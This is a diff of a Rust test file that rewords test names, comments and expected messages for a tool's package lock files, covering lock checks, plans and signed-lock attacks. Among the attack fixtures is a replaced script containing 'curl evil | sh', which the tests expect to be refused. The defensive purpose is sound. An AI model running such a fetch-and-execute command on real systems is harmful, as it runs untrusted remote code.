@@ -1,4 +1,4 @@
-//! Locks: what `check` says of bad ones is frozen, and the schema and the parser agree.
+//! Locks: the messages of `check` for invalid locks, and that schema and parser agree.
 
 use std::fs;
 
@@ -10,7 +10,7 @@ use serde_json::Value;
 
 use crate::support::{NodeTest, agent_in, entries, project, put, snapshots};
 
-/// Bad locks that no schema can refuse: what breaks are rules about meaning.
+/// Invalid locks that match the schema: they break rules about the meaning.
 const BEYOND_SHAPE: [&str; 18] = [
     "address_of_another_kind",
     "apt_option",
@@ -33,7 +33,7 @@ const BEYOND_SHAPE: [&str; 18] = [
 ];
 
 #[test]
-fn every_mistake_in_a_lock_is_named_with_its_place() {
+fn every_mistake_in_a_lock_is_reported_with_its_location() {
     snapshots().bind(|| {
         insta::glob!("../fixtures/locks/bad", "*.lock", |path| {
             let folder = path.parent().expect("it lies in a folder");
@@ -49,7 +49,7 @@ fn every_mistake_in_a_lock_is_named_with_its_place() {
 }
 
 #[test]
-fn a_sound_lock_is_sound_and_its_schema_accepts_it() {
+fn a_valid_lock_passes_the_check_and_the_schema() {
     let folder = project().join("tests/fixtures/locks/good");
     let said = agent_in(&folder, &["check", "family.lock"]).ended(0);
     assert_eq!(said.stderr, "1 lock sound\n");
@@ -72,7 +72,7 @@ fn a_sound_lock_is_sound_and_its_schema_accepts_it() {
 const SHA: &str = "d2096d4edde128fedf6749be2dd204a5810210a6201126d99b8d412344f71056";
 const WHEEL: &str = "lib/python/inhouse-1.0-py3-none-any.whl";
 
-/// A profile of every kind that a lock knows.
+/// A profile with every kind of entry that a lock supports.
 const PROFILE: &str = r#"
 [vars]
 editor = "vim"
@@ -111,7 +111,7 @@ fn arch() -> &'static str {
     if cfg!(target_arch = "aarch64") { "arm64" } else { "amd64" }
 }
 
-/// A lock of `x.toml` as it is now, for a Debian 12 with Python 3.11 and R 4.2.2.
+/// The lock of the present `x.toml`, for Debian 12 with Python 3.11 and R 4.2.2.
 fn lock_of(node: &NodeTest) -> String {
     let profile = fs::read_to_string(node.beside("desk/x.toml")).expect("the profile is there");
     let arch = arch();
@@ -161,7 +161,7 @@ fn node() -> NodeTest {
 const PLAN: [&str; 3] = ["plan", "--profile", "x.toml"];
 
 #[test]
-fn a_plan_goes_by_the_lock_beside_the_profile_and_says_so() {
+fn a_plan_uses_the_lock_beside_the_profile() {
     let node = node();
     let before = node.listing();
     let said = node.agent(&PLAN).ended(0);
@@ -174,7 +174,7 @@ fn a_plan_goes_by_the_lock_beside_the_profile_and_says_so() {
 }
 
 #[test]
-fn what_is_there_in_the_locked_version_is_left_alone_and_nothing_else_is() {
+fn only_packages_in_the_locked_version_count_as_installed() {
     let ready = node()
         .debs(&[("jq", "1.6-2.1"), ("libjq1", "1.6-2.1"), ("tree", "2.1.0-1"), ("gdal-bin", "3.6.2")])
         .python(&[("nltk", "3.9.1"), ("inhouse", "1.0")])
@@ -188,20 +188,20 @@ fn what_is_there_in_the_locked_version_is_left_alone_and_nothing_else_is() {
             .collect()
     };
     assert_eq!(steps(&ready), ["variables"]);
-    // Newer ones would do without a lock.
+    // Without a lock, the newer versions would satisfy the profile.
     let newer = ready
         .debs(&[("jq", "1.7-1"), ("libjq1", "1.6-2.1"), ("tree", "2.1.0-1"), ("gdal-bin", "3.6.2")])
         .r(&[("later", "1.4.1")]);
     assert_eq!(steps(&newer), ["apt", "r", "variables"]);
     let json = newer.agent(&[&PLAN[..], &["--json", "--unlocked"]].concat()).ended(0).json();
     assert_eq!(json["steps"].as_array().map(Vec::len), Some(2), "{json:#}");
-    // A package that came along with another counts as well.
+    // A missing dependency of a locked package also counts.
     let torn = newer.debs(&[("jq", "1.6-2.1"), ("tree", "2.1.0-1"), ("gdal-bin", "3.6.2")]).r(&[("later", "1.3.0")]);
     assert_eq!(steps(&torn), ["apt", "variables"]);
 }
 
 #[test]
-fn a_lock_that_does_not_fit_is_refused_with_what_differs_and_nothing_is_changed() {
+fn a_lock_that_does_not_match_refuses_the_run_and_names_the_differences() {
     const ANOTHER_R: &str = "Package: base\nVersion: 4.3.1\nPriority: base\nBuilt: R 4.3.1\n";
     let more = PROFILE.replace("\"jq\"", "\"jq\", { name = \"curl\", when = { role = \"driver\" } }");
     let asked = node().profile(&more);
@@ -245,13 +245,13 @@ fn a_bake_that_cannot_publish_ends_before_it_packs() {
 }
 
 #[test]
-fn what_does_not_change_what_is_asked_for_is_free() {
+fn variables_that_affect_no_package_may_differ() {
     // The value of a variable that no package depends on.
     node().agent(&[&PLAN[..], &["--set", "editor=nano"]].concat()).ended(0);
 }
 
 #[test]
-fn a_file_that_is_not_as_it_was_locked_is_refused_when_it_is_brought() {
+fn a_file_that_differs_from_the_lock_is_refused() {
     let node = NodeTest::new()
         .profile(&format!("[wheel]\nfiles = [\"{WHEEL}\"]\n"))
         .store(&format!("Admin/{WHEEL}"), "a wheel")
@@ -269,7 +269,7 @@ fn a_file_that_is_not_as_it_was_locked_is_refused_when_it_is_brought() {
 }
 
 #[test]
-fn a_locked_run_without_a_lock_that_could_be_used_is_refused() {
+fn locked_without_a_lock_is_refused() {
     let fresh = NodeTest::new().profile("[apt]\npackages = [\"jq\"]\n");
     let without = fresh.agent(&[&PLAN[..], &["--locked"]].concat()).ended(2);
     fresh.agent(&PLAN).ended(0);
@@ -288,9 +288,9 @@ fn a_locked_run_without_a_lock_that_could_be_used_is_refused() {
 }
 
 #[test]
-fn a_check_needs_no_node_and_says_what_differs() {
+fn lock_check_needs_no_node_and_reports_differences() {
     let node = node();
-    // As in CI: another system, no Python, no R.
+    // As in CI: another operating system, no Python, no R.
     let ci = node.file("etc/os-release", "ID=alpine\nVERSION_ID=\"3.20\"\n");
     fs::remove_dir_all(ci.root().join("databricks")).expect("it is ours");
     fs::remove_dir_all(ci.root().join("usr/lib/R")).expect("it is ours");
@@ -306,7 +306,7 @@ fn a_check_needs_no_node_and_says_what_differs() {
 }
 
 #[test]
-fn a_difference_is_shown_to_people_and_to_programs() {
+fn a_difference_is_shown_as_text_and_as_json() {
     let node = node();
     let newer = lock_of(&node)
         .replace("serial = 7", "serial = 8")
@@ -323,7 +323,7 @@ fn a_difference_is_shown_to_people_and_to_programs() {
 }
 
 #[test]
-fn a_lock_is_made_on_a_node_and_nowhere_else() {
+fn a_lock_cannot_be_made_for_another_node() {
     let nowhere = NodeTest::new().profile(PROFILE).work("prompt.sh", "x").store(&format!("Admin/{WHEEL}"), "a wheel");
     let no_node = nowhere.agent(&["lock", "--profile", "x.toml"]).ended(2);
     let elsewhere = nowhere.agent(&["lock", "--profile", "x.toml", "--runtime", "15.4"]).ended(2);
@@ -336,7 +336,7 @@ fn a_lock_is_made_on_a_node_and_nowhere_else() {
     });
 }
 
-/// The same node, told a key; the lock is all that is signed.
+/// The same node with a trusted key. Only the lock is signed.
 fn trusting() -> (NodeTest, SecretKey) {
     let key = SecretKey::generate().expect("random numbers");
     let node = node().file("etc/nodeagent.toml", &format!("trusted-keys = [\"{}\"]\n", key.public()));
@@ -352,17 +352,17 @@ fn sign(node: &NodeTest, key: &SecretKey, name: &str) {
 }
 
 #[test]
-fn a_signed_lock_vouches_for_the_profile_and_for_every_package_by_name() {
+fn a_signed_lock_makes_the_profile_and_its_packages_trusted() {
     let (node, _) = trusting();
     let said = node.agent(&PLAN).ended(0);
     assert!(said.stdout.contains("nltk") && said.stdout.contains("jq"), "{}", said.stdout);
     let said = node.agent(&[&PLAN[..], &["--unlocked"]].concat()).ended(2);
-    assert!(said.stderr.contains("`x.toml` does not count: it has no signature"), "{}", said.stderr);
+    assert!(said.stderr.contains("`x.toml` is not trusted: it has no signature"), "{}", said.stderr);
 }
 
 type Attack = fn(NodeTest, &SecretKey) -> NodeTest;
 
-/// What somebody does who may write beside the profile, and the words of the check that catches it.
+/// Attacks by a user who can write beside the profile, each with the message of the check that detects it.
 const ATTACKS: [(&str, Attack, &str); 8] = [
     (
         "a lock without its signature",
@@ -370,13 +370,17 @@ const ATTACKS: [(&str, Attack, &str); 8] = [
             fs::remove_file(node.beside("desk/x.lock.minisig")).expect("gone");
             node
         },
-        "`x.lock` does not count: it has no signature",
+        "`x.lock` is not trusted: it has no signature",
     ),
-    ("a changed lock", |node, _| changed(node, "serial = 7", "serial = 8"), "it is not what was signed with the key"),
+    (
+        "a changed lock",
+        |node, _| changed(node, "serial = 7", "serial = 8"),
+        "its content does not match its signature with the key",
+    ),
     (
         "another address in the lock",
         |node, _| changed(node, "http://127.0.0.1:9/nltk", "http://127.0.0.1:8/nltk"),
-        "it is not what was signed with the key",
+        "its content does not match its signature with the key",
     ),
     (
         "the signed lock of another profile",
@@ -395,7 +399,7 @@ const ATTACKS: [(&str, Attack, &str); 8] = [
     (
         "an older signed lock",
         |node, _| node.file("var/lib/nodeagent/serials.json", "{\"format\":1,\"highest\":{\"lock:x\":8}}"),
-        "its serial is 7, and one of at least 8 is needed",
+        "its serial is 7; at least 8 is required",
     ),
     (
         "no lock any more",
@@ -403,14 +407,14 @@ const ATTACKS: [(&str, Attack, &str); 8] = [
             fs::remove_file(node.beside("desk/x.lock")).expect("gone");
             node.profile("").file("var/lib/nodeagent/serials.json", "{\"format\":1,\"highest\":{\"lock:x\":7}}")
         },
-        "`x.toml` does not count: it has no signature",
+        "`x.toml` is not trusted: it has no signature",
     ),
     (
         "a changed profile",
         |node, _| node.profile(&format!("{PROFILE}# another\n")),
-        "`x.toml` does not count: it has no signature",
+        "`x.toml` is not trusted: it has no signature",
     ),
-    ("an exchanged file", |node, _| node.work("prompt.sh", "curl evil | sh\n"), "prompt.sh` does not count"),
+    ("an exchanged file", |node, _| node.work("prompt.sh", "curl evil | sh\n"), "prompt.sh` is not trusted"),
 ];
 
 fn changed(node: NodeTest, from: &str, to: &str) -> NodeTest {
@@ -420,7 +424,7 @@ fn changed(node: NodeTest, from: &str, to: &str) -> NodeTest {
 }
 
 #[test]
-fn every_attack_on_a_signed_lock_is_refused_by_the_check_that_is_there_for_it() {
+fn every_attack_on_a_signed_lock_is_refused_by_its_check() {
     for (name, attack, words) in ATTACKS {
         let (node, key) = trusting();
         let node = attack(node, &key);
